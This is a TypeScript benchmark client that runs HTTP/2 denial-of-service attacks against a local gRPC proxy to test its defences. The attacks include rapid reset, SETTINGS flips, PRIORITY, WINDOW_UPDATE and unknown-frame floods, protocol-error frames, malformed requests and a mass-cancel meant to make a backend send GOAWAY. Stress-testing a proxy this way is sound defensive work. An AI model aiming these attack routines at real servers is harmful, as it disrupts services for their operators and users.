// One hostile client of bench/attacks.ts, as its own process (so its CPU is not the normal
// client's event loop): runs one attack against the proxy at 127.0.0.1:PORT for DURATION ms,
// reconnecting whenever the proxy closes it, then prints one JSON line (AttackerResult).
// Every attack is bounded: connections one after another (or a few at once), each frame
// burst written only once the socket took the previous one.
// Usage: node dist/bench/attacker.js ATTACK PORT DURATION_MS
import {
  CANCEL,
  dataFrame,
  frame,
  fullRequest,
  GRPC_MESSAGE,
  headerBlock,
  headersFrame,
  priorityFrame,
  RawConnection,
  requestFields,
  rstFrame,
  settingsFrame,
  T,
  windowUpdateFrame,
} from "./raw-h2.js";

export const ATTACKS = [
  "settings-flip",
  "rapid-reset",
  "rapid-reset-padded",
  "rapid-reset-reconnect",
  "priority-flood",
  "window-update-flood",
  "unknown-frame-flood",
  "protocol-errors",
  "malformed-requests",
  "backend-goaway",
] as const;
export type Attack = (typeof ATTACKS)[number];

export interface AttackerResult {
  readonly attack: Attack;
  connections: number;
  /** Streams the attacker opened (HEADERS sent). */
  streams: number;
  /** RST_STREAM frames the attacker sent. */
  resets: number;
  /** Other frames of the attack (SETTINGS, PRIORITY, WINDOW_UPDATE, unknown, bad frames). */
  frames: number;
  /** GOAWAY codes received, by name; "closed" counts connections the proxy closed without one. */
  goaways: Record<string, number>;
  /** RST_STREAM codes received, by name. */
  resetsReceived: Record<string, number>;
  /** HEADERS frames received (responses and trailers). */
  headersReceived: number;
  settingsAcks: number;
}

const SETTINGS_INITIAL_WINDOW_SIZE = 4;
/** The attack opened 20,000 streams; the attacker opens what the proxy advertises, up to that. */
const FLIP_STREAMS = 20_000;
/** Frames per write in the floods. */
const FLOOD_BATCH = 1000;
/** Reset bursts: pairs per write. */
const RESET_BATCH = 100;
/** Just under the classic rapid-reset threshold (100 resets, half the streams). */
const RESETS_PER_CONNECTION = 99;
/** Protocol-error connections in flight at once. */
const ERROR_CONCURRENCY = 16;
/** backend-goaway: connections per round, streams each, and how long they stay open before the reset. */
const GOAWAY_CONNECTIONS = 10;
const GOAWAY_STREAMS = 99;
/** Over a second: the proxy's premature-cancel budget counts only cancels within a second of opening. */
const GOAWAY_HOLD_MS = 1100;

function newResult(attack: Attack): AttackerResult {
  return { attack, connections: 0, streams: 0, resets: 0, frames: 0, goaways: {}, resetsReceived: {}, headersReceived: 0, settingsAcks: 0 };
}

/** Folds one finished connection's outcome into the result. */
function tally(r: AttackerResult, c: RawConnection): void {
  const g = c.received.goaway ?? (c.socket.destroyed ? "closed" : undefined);
  if (g !== undefined) r.goaways[g] = (r.goaways[g] ?? 0) + 1;
  for (const [k, v] of c.received.resets) r.resetsReceived[k] = (r.resetsReceived[k] ?? 0) + v;
  r.headersReceived += c.received.frames.get("HEADERS") ?? 0;
  r.settingsAcks += c.received.settingsAcks;
}

/** Opens a connection; one the proxy refuses (or closes before it is up) is counted and retried after 10 ms. */
async function connect(r: AttackerResult, port: number, bigWindow = true): Promise<RawConnection> {
  for (;;) {
    if (performance.now() > deadline) throw new Error("past the deadline");
    r.connections++;
    try {
      return await RawConnection.open(port, { deadline, bigWindow });
    } catch {
      r.goaways["connect failed"] = (r.goaways["connect failed"] ?? 0) + 1;
      await sleep(10);
    }
  }
}

/** When every connection of this run is destroyed, whatever it waits for (set by runAttack; a little after its end). */
let deadline = Infinity;
const sleep = (ms: number): Promise<void> => new Promise((resolve) => setTimeout(resolve, ms));
const yieldTurn = (): Promise<void> => new Promise((resolve) => setImmediate(resolve));

/** Runs `body` on one connection after another until `end`; the connection is closed and tallied after each. */
async function reconnecting(r: AttackerResult, port: number, end: number, bigWindow: boolean, body: (c: RawConnection) => Promise<void>): Promise<void> {
  while (performance.now() < end) {
    const c = await connect(r, port, bigWindow);
    try {
      await body(c);
    } finally {
      c.close();
      tally(r, c);
    }
  }
}

/** (a) Many open streams, then SETTINGS that flip the initial window, ACKs read (each SETTINGS once walked every stream). */
async function settingsFlip(r: AttackerResult, port: number, end: number): Promise<void> {
  await reconnecting(r, port, end, true, async (c) => {
    await c.settingsSeen();
    const n = Math.min(FLIP_STREAMS, c.received.maxConcurrentStreams ?? FLIP_STREAMS);
    for (let i = 0; i < n && c.alive; i += RESET_BATCH) {
      const batch: Buffer[] = [];
      for (let j = i; j < Math.min(n, i + RESET_BATCH); j++) batch.push(headersFrame(c.nextStreamId + 2 * j));
      r.streams += batch.length;
      await c.send(Buffer.concat(batch));
    }
    c.nextStreamId += 2 * n;
    let flip = 0;
    while (c.alive && performance.now() < end) {
      // Ten at a time, then wait for their ACKs: a client that reads what it is sent.
      const before = c.received.settingsAcks;
      const batch: Buffer[] = [];
      for (let i = 0; i < 10; i++) batch.push(settingsFrame([[SETTINGS_INITIAL_WINDOW_SIZE, flip++ % 2 === 0 ? 0 : 65_535]]));
      r.frames += batch.length;
      await c.send(Buffer.concat(batch));
      await c.until(() => c.received.settingsAcks >= before + 10, 1000);
    }
  });
}

/** (b) HEADERS + RST_STREAM pairs, `resetsPerConnection` per connection (Infinity: until the proxy ends it); `padding` whole requests per reset. */
async function rapidReset(r: AttackerResult, port: number, end: number, opts: { padding: number; resetsPerConnection: number }): Promise<void> {
  await reconnecting(r, port, end, true, async (c) => {
    let resets = 0;
    while (c.alive && performance.now() < end && resets < opts.resetsPerConnection) {
      const batch: Buffer[] = [];
      const pairs = Math.min(RESET_BATCH, opts.resetsPerConnection - resets);
      for (let i = 0; i < pairs; i++) {
        const id = c.nextStreamId;
        batch.push(headersFrame(id), rstFrame(id, CANCEL));
        c.nextStreamId += 2;
        for (let p = 0; p < opts.padding; p++) {
          batch.push(fullRequest(c.nextStreamId));
          c.nextStreamId += 2;
        }
      }
      resets += pairs;
      r.resets += pairs;
      r.streams += pairs * (1 + opts.padding);
      await c.send(Buffer.concat(batch));
      await yieldTurn(); // read what came back (ACKs, responses, GOAWAY)
    }
  });
}

/** (c) One kind of control frame, as fast as the socket takes it. */
async function flood(r: AttackerResult, port: number, end: number, make: (i: number) => Buffer, bigWindow = true): Promise<void> {
  await reconnecting(r, port, end, bigWindow, async (c) => {
    let i = 0;
    while (c.alive && performance.now() < end) {
      const batch: Buffer[] = [];
      for (let j = 0; j < FLOOD_BATCH; j++) batch.push(make(i++));
      r.frames += batch.length;
      await c.send(Buffer.concat(batch));
      await yieldTurn();
    }
  });
}

/**
 * (d) Connections that each hit a connection error of the kind nghttp2 answers on its own
 * (node transport: the CLOSE-WAIT leak), then half-close: ERROR_CONCURRENCY at a time.
 */
const BAD_FRAMES: ReadonlyArray<() => Buffer> = [
  () => dataFrame(1, GRPC_MESSAGE, false), // DATA on an idle stream
  () => windowUpdateFrame(3, 1), // WINDOW_UPDATE on an idle stream
  () => frame(T.CONTINUATION, 0x4, 1, Buffer.from([0x82])), // CONTINUATION with no HEADERS before it
  () => frame(T.SETTINGS, 0, 0, Buffer.alloc(5)), // SETTINGS of a length that is not a multiple of 6
];

async function protocolErrors(r: AttackerResult, port: number, end: number): Promise<void> {
  let k = 0;
  const loop = async (): Promise<void> => {
    while (performance.now() < end) {
      const c = await connect(r, port);
      try {
        await c.send(BAD_FRAMES[k++ % BAD_FRAMES.length]!());
        r.frames++;
        c.socket.end(); // our FIN: the proxy must close its side (CLOSE-WAIT otherwise)
        await c.until(() => false, 1000); // until the proxy closes, at most 1 s
      } finally {
        c.close();
        tally(r, c);
      }
    }
  };
  await Promise.all(Array.from({ length: ERROR_CONCURRENCY }, loop));
}

/** (e) Requests a backend would refuse (its refusal counted against it by outlier detection): no :authority, bad content-length. */
const MALFORMED: ReadonlyArray<{ block: Buffer; body: Buffer }> = [
  { block: headerBlock(requestFields({ drop: [":authority"] })), body: GRPC_MESSAGE },
  { block: headerBlock(requestFields({ extra: [["content-length", "abc"]] })), body: GRPC_MESSAGE },
  { block: headerBlock(requestFields({ extra: [["content-length", "100"]] })), body: GRPC_MESSAGE },
];

async function malformedRequests(r: AttackerResult, port: number, end: number): Promise<void> {
  let k = 0;
  await reconnecting(r, port, end, true, async (c) => {
    while (c.alive && performance.now() < end) {
      const batch: Buffer[] = [];
      for (let i = 0; i < 10; i++) {
        const m = MALFORMED[k++ % MALFORMED.length]!;
        batch.push(headersFrame(c.nextStreamId, m.block), dataFrame(c.nextStreamId, m.body, true));
        c.nextStreamId += 2;
      }
      r.streams += 10;
      await c.send(Buffer.concat(batch));
      await sleep(20); // ~500 a second: ejection takes a handful, not a flood
    }
  });
}

/**
 * (f) Rounds of GOAWAY_CONNECTIONS connections x GOAWAY_STREAMS streams held open upstream,
 * then all reset at once (~1,000 cancels, which make a grpc-js backend send GOAWAY), each
 * connection under every per-connection reset limit.
 */
async function backendGoaway(r: AttackerResult, port: number, end: number): Promise<void> {
  while (performance.now() < end) {
    const conns = await Promise.all(Array.from({ length: GOAWAY_CONNECTIONS }, () => connect(r, port)));
    for (const c of conns) {
      const batch: Buffer[] = [];
      for (let i = 0; i < GOAWAY_STREAMS; i++) batch.push(headersFrame(c.nextStreamId + 2 * i));
      r.streams += GOAWAY_STREAMS;
      await c.send(Buffer.concat(batch));
    }
    await sleep(GOAWAY_HOLD_MS);
    for (const c of conns) {
      const batch: Buffer[] = [];
      for (let i = 0; i < GOAWAY_STREAMS; i++) batch.push(rstFrame(c.nextStreamId + 2 * i));
      r.resets += GOAWAY_STREAMS;
      await c.send(Buffer.concat(batch));
    }
    await sleep(50); // let the resets go out before the FIN
    for (const c of conns) {
      c.close();
      tally(r, c);
    }
  }
}

export async function runAttack(attack: Attack, port: number, durationMs: number): Promise<AttackerResult> {
  const r = newResult(attack);
  const end = performance.now() + durationMs;
  deadline = end + 1000;
  try {
    await attackLoop(attack, r, port, end);
  } catch (err) {
    // Past the deadline, or a connection that failed in a way no loop expects: the tally so far stands.
    r.goaways[`attacker stopped: ${err instanceof Error ? err.message : String(err)}`] = 1;
  }
  return r;
}

async function attackLoop(attack: Attack, r: AttackerResult, port: number, end: number): Promise<void> {
  switch (attack) {
    case "settings-flip":
      await settingsFlip(r, port, end);
      break;
    case "rapid-reset":
      await rapidReset(r, port, end, { padding: 0, resetsPerConnection: Infinity });
      break;
    case "rapid-reset-padded":
      await rapidReset(r, port, end, { padding: 2, resetsPerConnection: Infinity });
      break;
    case "rapid-reset-reconnect":
      await rapidReset(r, port, end, { padding: 0, resetsPerConnection: RESETS_PER_CONNECTION });
      break;
    case "priority-flood":
      await flood(r, port, end, (i) => priorityFrame(2 * i + 1));
      break;
    case "window-update-flood":
      // Without the opening big window: 2^31-1 less 65,535 increments of 1 before the window would overflow.
      await flood(r, port, end, () => windowUpdateFrame(0, 1), false);
      break;
    case "unknown-frame-flood":
      await flood(r, port, end, () => frame(0xfa, 0, 0, Buffer.alloc(8)));
      break;
    case "protocol-errors":
      await protocolErrors(r, port, end);
      break;
    case "malformed-requests":
      await malformedRequests(r, port, end);
      break;
    case "backend-goaway":
      await backendGoaway(r, port, end);
      break;
  }
}

async function main(): Promise<void> {
  const [attack, port, durationMs] = process.argv.slice(2);
  if (!(ATTACKS as readonly string[]).includes(attack ?? ""))
    throw new Error(`usage: attacker.js ATTACK PORT DURATION_MS; ATTACK one of ${ATTACKS.join(", ")}`);
  const result = await runAttack(attack as Attack, Number(port), Number(durationMs));
  console.log(JSON.stringify(result));
}

// Run as a program, not when bench/attacks.ts imports ATTACKS.
if (process.argv[1]?.endsWith("attacker.js") === true) {
  main().then(
    () => process.exit(0),
    (err: unknown) => {
      console.error(err instanceof Error ? err.stack : String(err));
      process.exit(1);
    },
  );
}
